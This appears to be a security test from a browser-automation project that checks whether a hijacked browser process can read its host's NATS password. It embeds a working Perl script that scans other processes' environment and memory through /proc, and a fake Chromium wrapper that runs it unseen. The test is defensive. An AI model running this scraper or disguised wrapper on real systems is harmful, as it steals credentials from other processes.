import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { freePort } from '../../testkit/stack/ports.ts';
import { until } from '../../testkit/until.ts';
import type { Attack } from './attack.ts';
import { type HostUser, hostUsers, withLoneHost } from './lone-host.ts';

const shell = '/usr/lib/chromium/chromium-headless-shell';

/**
 * What an attacker runs who has taken over a process of the browser: it looks into the environment and the memory of every
 * process that it can see.
 */
const thief = `
for $pid (grep { /^\\d+$/ } map { s{/proc/}{}r } glob("/proc/*")) {
  $seen++;
  if (open F, "<", "/proc/$pid/environ") {
    local $/;
    $environ = <F>;
    print "environ\\n" if $environ =~ /HOST_ID=lone/ && $environ =~ /NATS_PASSWORD=./;
  }
  next unless open C, "<", "/proc/$pid/cmdline";
  next unless <C> =~ m{apps/browser/src/main.ts};
  print "host\\n";
  next unless open(M, "<", "/proc/$pid/maps") && open(P, "<", "/proc/$pid/mem");
  for $line (<M>) {
    next unless $line =~ /^([0-9a-f]+)-([0-9a-f]+) rw/;
    ($from, $to, $bytes) = (hex $1, hex $2, "");
    next if $to - $from > 64 << 20;
    sysseek P, $from, 0;
    sysread P, $bytes, $to - $from;
    if (index($bytes, "NATS_PASSWORD=") >= 0) {
      print "memory\\n";
      last;
    }
  }
}
print "seen $seen\\n";
`;
/** In the place of Chromium: the thief, and then Chromium as if nothing were. */
const program = (bin: string) => `#!/bin/sh
(perl ${bin}/thief >"$HOME/found" 2>/dev/null; mv "$HOME/found" "$HOME/stolen") &
exec ${shell} "$@"
`;

export const passwordInEnviron: Attack = {
  name: 'password-in-environ',
  what: 'a process of the browser reads the password of its host from the kernel, as root and as an ordinary user',
  async run() {
    const reached: string[] = [];
    const broken: string[] = [];
    const figures: Record<string, object> = {};
    let tried = 0;
    const bin = await mkdtemp(join(tmpdir(), 'pilothouse-thief-'));

    async function attack(user: HostUser, path: string): Promise<void> {
      const opsPort = await freePort();
      await withLoneHost(user, { CHROMIUM_PATH: path, OPS_PORT: String(opsPort) }, async ({ folder, open }) => {
        const session = await open();
        const { acted } = await session.act({ action: 'navigate', url: 'data:text/html,<title>Honest</title>' });
        if (acted.after.title !== 'Honest') broken.push(`as ${user}: the browser shows no page`);
        const stolen = async () => {
          const files = await readdir(folder, { recursive: true });
          const file = files.find((name) => name.endsWith('home/stolen'));
          return file === undefined ? undefined : (await readFile(join(folder, file), 'utf8')).trim().split('\n');
        };
        await until(async () => (await stolen()) !== undefined, 10_000);
        const found = new Set(await stolen());
        tried += 1;
        if (found.has('environ')) reached.push(`host as ${user}: NATS_PASSWORD from its environment`);
        if (found.has('memory')) reached.push(`host as ${user}: NATS_PASSWORD from its memory`);
        const ready = await fetch(`http://127.0.0.1:${opsPort}/ready`).then((answer) => answer.text());
        figures[user] = { found: [...found], ready: ready.trim().split('\n') };
      });
    }

    try {
      const path = join(bin, 'chromium');
      await writeFile(join(bin, 'thief'), thief, { mode: 0o644 });
      await writeFile(path, program(bin), { mode: 0o755 });
      await chmod(bin, 0o755);
      for (const user of hostUsers) await attack(user, path);
    } finally {
      await rm(bin, { recursive: true, force: true });
    }
    return { tried, reached, broken, figures };
  },
};
